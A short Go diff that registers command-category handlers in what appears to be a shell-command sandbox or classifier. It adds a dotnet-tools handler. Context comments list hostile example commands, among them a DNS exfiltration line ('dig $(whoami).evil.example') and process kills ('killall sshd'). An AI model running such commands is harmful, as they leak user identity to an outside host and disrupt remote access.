@@ -47,6 +47,7 @@ func loadPrograms() {
 		addLocalDBHandlers(handlers)        // localdb.go: psql, mysql, createdb, dbmate against the sandbox's loopback
 		addContainerBuildHandlers(handlers) // containerbuild.go: docker build and inspect in the sandbox; build --push
 		addBuildSubToolHandlers(handlers)   // mvnexec.go: mvn exec:java, help:effective-pom
+		addDotnetToolHandlers(handlers)     // dotnettools.go: dotnet csharpier, dotnet tool run reportgenerator
 		addKillHandlers(handlers)           // killtargets.go: pkill -u $USER, killall sshd
 		addDNSHandlers(handlers)            // dnsexfil.go: dig $(whoami).evil.example
 		addTextToolHandlers(handlers)       // texttools.go: iconv, bc, history
